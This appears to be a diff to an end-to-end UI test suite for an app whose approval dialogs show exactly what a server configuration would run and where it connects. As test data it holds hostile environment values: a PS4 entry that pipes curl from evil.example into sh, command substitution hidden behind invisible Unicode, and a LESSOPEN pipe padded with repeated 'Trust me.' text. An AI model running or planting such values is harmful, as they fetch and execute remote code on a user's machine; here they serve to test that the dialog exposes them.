@@ -110,10 +110,19 @@ describe('servers', () => {
     const asked = stage.page.getByRole('alertdialog')
     await soon(async () => expect(await focused()).toBe('Remove'))
     const run = asked.getByRole('region', { name: 'This is exactly what would run' })
-    await run.getByText('⟨U+202E⟩').waitFor()
+    await run.getByText('⟨U+202E⟩').first().waitFor()
     await run.getByText('/home/me/My Notes').waitFor()
-    await run.getByText('NOTEBOOK_TOKEN').waitFor()
-    await asked.getByText('The program also sets HOME.').waitFor()
+    const row = (name: string) =>
+      run.locator('dd').filter({ has: stage.page.getByText(name, { exact: true }) })
+    expect(await row('NOTEBOOK_TOKEN').innerText()).toBe('NOTEBOOK_TOKEN = •••••• (hidden)')
+    expect(await row('PS4').innerText()).toBe('PS4 = $(curl https://evil.example/x|sh)')
+    expect(await row('EVIL_KEY').innerText()).toBe('EVIL_KEY = harmless⟨U+202E⟩⟨U+200B⟩; $(evil)⟨U+E0041⟩')
+    expect(await row('LESSOPEN').innerText()).toBe(`LESSOPEN = ${'Trust me. '.repeat(60)}|evil %s`)
+    // What imitates a hidden value stands in the box of values, as text.
+    expect(await row('MARKUP').locator('code').last().innerText()).toContain('<b>hidden</b>⟨U+000A⟩')
+    expect(await row('MARKUP').locator('code').last().innerText()).toContain('•••••• (hidden)')
+    expect(await row('NOTEBOOK_TOKEN').locator('code').count()).toBe(1)
+    await run.getByText('all files and programs that you can reach').waitFor()
     await stage.page.keyboard.press('Escape')
     await asked.waitFor({ state: 'detached' })
     expect(stage.host.world().servers).toHaveLength(3)
@@ -126,9 +135,35 @@ describe('servers', () => {
 
     await button('Look at Weather').click()
     await asked.getByText('weather.example.an-address-of-somebody-else.example', { exact: true }).waitFor()
+    const far = asked.getByRole('region', { name: 'This is where it would connect to' })
+    expect((await far.innerText()).replace(/\s+/g, ' ')).toContain(
+      'signs in as weather-app asks for read asks for everything sends Authorization: Bearer •••••• (hidden) sends X-Tenant: somebody/else',
+    )
     await button('Remove').click()
     await stage.page.getByRole('region', { name: 'Added by a program' }).waitFor({ state: 'detached' })
     expect(commands('servers.remove')).toEqual([{ id: 'd2' }])
+  })
+
+  it('a draft whose values cannot be read cannot be started', async () => {
+    await show('drafts')
+    stage.host.world().servers.find((one) => one.id === 'd1')!.values = null
+    stage.host.tell('servers.changed', {})
+    await button('Look at Notebook').click()
+    await stage.page.getByText('Its values cannot be read at the moment.').waitFor()
+    await stage.page.getByRole('alertdialog').evaluate((box) => box.scrollTo(0, box.scrollHeight))
+    await stage.page.getByText('nothing is left of it').waitFor()
+    await stage.page.waitForTimeout(800)
+    expect(await button('Start it').isDisabled()).toBe(true)
+  })
+
+  it('shows on every page what was done outside of it, until it is dismissed', async () => {
+    await show('elsewhere', '/tools')
+    await stage.page.getByText('A key “x” with “Everything” was made on the command line at 14:03.').waitFor()
+    await stage.page.getByRole('link', { name: 'Activity' }).click()
+    await stage.page.getByText('was allowed on the command line at 14:04.').waitFor()
+    await button('Dismiss this notice').first().click()
+    await soon(async () => expect(commands('notices.dismiss')).toEqual([{ id: 'e2' }]))
+    await stage.page.getByText('A key “x”').waitFor()
   })
 
   it('a long draft can be started only after it was read to the end', async () => {
